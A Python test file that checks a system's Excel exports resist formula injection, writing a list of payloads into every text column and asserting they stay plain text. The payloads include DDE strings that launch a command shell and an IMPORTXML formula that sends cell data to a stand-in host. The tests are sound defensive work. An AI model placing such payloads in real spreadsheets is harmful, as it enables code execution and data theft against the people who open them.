"""Formula injection (S10): no text of anybody becomes a formula, a number or a link in a sheet, and none is changed."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from factories import NOW, TIANNING, a_case, a_user, arranging, walk
from tally import tell

from exports import blanks, sheets, villagelists
from exports.errorrows import write_errors
from exports.workbook import Column, Sheet, read, write
from models.area import Names, Township, Village
from models.areanames import AreaIndex
from models.campaign import the_campaign
from models.months import Month
from models.roster_rows import read_roster
from models.scope import seeing

BODIES = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x","y")', "SUM(A1:A9)")
SIGNS = ("=", "+", "-", "@", "\t=", "\r=", " =", "'=", '"=', "＝", "＋", "－", "＠", "\u3000=", "\u200b=")
PAYLOADS = [
    *(sign + body for sign in SIGNS for body in BODIES),
    '=IMPORTXML(CONCAT("http://x?",A1),"//a")', 'DDE("cmd";"/C calc";"x")', '=DDE("cmd","/C calc","x")', "|calc", "%0A=1",
    "http://example.invalid", "mailto:x", "internal:Sheet1!A1", "{=1+1}", "1e9", "0012", "TRUE", "2021-08-01", "=", "-", "@"]
TEXTS = ("text", "id", "month")


def formulas(data: bytes) -> int:
    """Cells that are formulas, numbers made of text, or links, in every sheet of a workbook."""
    with zipfile.ZipFile(io.BytesIO(data)) as opened:
        parts = [opened.read(entry) for entry in opened.namelist() if entry.startswith("xl/worksheets/")]
    return sum(part.count(b"<f>") + part.count(b"<f ") + part.count(b"<hyperlink") for part in parts)


def cells(data: bytes) -> list:
    return [cell for page in openpyxl.load_workbook(io.BytesIO(data)) for row in page.iter_rows() for cell in row
            if cell.value is not None]


def unpacked(text: str) -> str:
    """A carriage return in a cell is kept by XML as an escape, which Excel reads back."""
    return text.replace("_x000D_", "\r")


def declared() -> dict[str, list[Column]]:
    """The columns of every sheet that leaves, those of people's lists and of the templates."""
    found = {key: [Column(*column) for column in export.columns] for key, export in sheets.SHEETS.items()}
    return found | {"village list": list(villagelists.COLUMNS), "guide": [Column(*about) for about in blanks.ABOUT]}


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 30


def test_no_text_column_of_any_sheet_makes_a_formula():
    tried, made, changed = 0, 0, 0
    for columns in declared().values():
        texts = [place for place, column in enumerate(columns) if column.kind in TEXTS]
        rows = [tuple(payload if place in texts else None for place in range(len(columns))) for payload in PAYLOADS]
        out = io.BytesIO()
        write(Sheet("表", columns, rows, leaving="=1+1"), out)
        made += formulas(out.getvalue())
        page = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
        for number, payload in enumerate(PAYLOADS, 2):
            for place in texts:
                cell = page.cell(number, place + 1)
                tried += 1
                changed += (cell.data_type, unpacked(str(cell.value))) != ("s", payload)
    tell(f"S10: {len(PAYLOADS)} payloads, {len(declared())} sheets, {tried} cells: {made} formulas, {changed} changed")
    assert tried > 1_000
    assert (made, changed) == (0, 0)


@pytest.mark.parametrize("payload", ["=1+1", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3", "＝1+1", "\t=1+1", "'=1+1"])
def test_a_payload_in_every_text_of_the_database_stays_text(county, session, payload):
    with arranging():
        a_user(username=payload).name = payload
        session.query(Township).filter_by(area_code=TIANNING).one().name = payload
        session.query(Village).filter_by(area_code=f"{TIANNING}001").one().name = payload
    case = walk(a_case(f"{TIANNING}001", category="impostor", name=payload), "refund",
                alive="yes", impostor_from="2019-10", impostor_to="2019-12")
    with arranging():
        case.pause_reason = case.remark = payload
        case.campaign.county_name = payload
    with seeing("141122"):
        of = the_campaign()
        books = [sheets.build(key, of, NOW, str, payload) for key in sheets.SHEETS]
        books.append(villagelists.village_list(of, f"{TIANNING}001", Names(), payload))
        written = [unpacked(str(cell.value)) for data in books for cell in cells(data)]
    assert sum(map(formulas, books)) == 0
    assert written.count(payload) >= 10
    assert {cell.data_type for data in books for cell in cells(data)} <= {"s", "n", "d"}


def test_refused_rows_are_texts_and_come_back_refused_for_the_same_reason():
    """A line below the rows says who took them out; the import takes it for no person."""
    rows = [["姓名", "所在村组", "证件号码", "暂停年月"], *([payload, "没有村", payload, "202001"] for payload in PAYLOADS
                                                if payload.strip() and "\r" not in payload)]
    table = read(texts(rows))
    areas = AreaIndex([("141122", "交城县"), (TIANNING, "天宁镇")])
    listing, out = read_roster(table, areas), io.BytesIO()
    write_errors(table, listing.headings, listing.readings, out, leaving="导出：张三（=1+1） 2021-09-19 08:30 用途：改正")
    assert formulas(out.getvalue()) == 0
    again = read_roster(read(out.getvalue()), areas)
    assert len(again) == len(listing) > 30
    assert [[p.code for p in r.problems] for r in again] == [[p.code for p in r.problems] for r in listing]


def texts(rows: list[list[str]]) -> bytes:
    out = io.BytesIO()
    write(Sheet("名单", [Column(title, kind="id") for title in rows[0]], rows[1:]), out)
    return out.getvalue()


def test_the_foot_of_a_page_is_no_code_of_excel():
    out = io.BytesIO()
    write(Sheet("表", [Column("列")], [("x",)], leaving="导出：&A&F&[路径]" + "长" * 300), out)
    footer = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.oddFooter
    assert footer.left.text.startswith("导出：&&A&&F&&[路径]")
    assert footer.right.text == "&P / &N"


def test_a_month_column_takes_months_and_texts():
    out = io.BytesIO()
    write(Sheet("表", [Column("月", kind="month")], [(Month(2021, 8),), ("=1",)]), out)
    assert [cell.value for cell in cells(out.getvalue())] == ["月", "2021-08", "=1"]
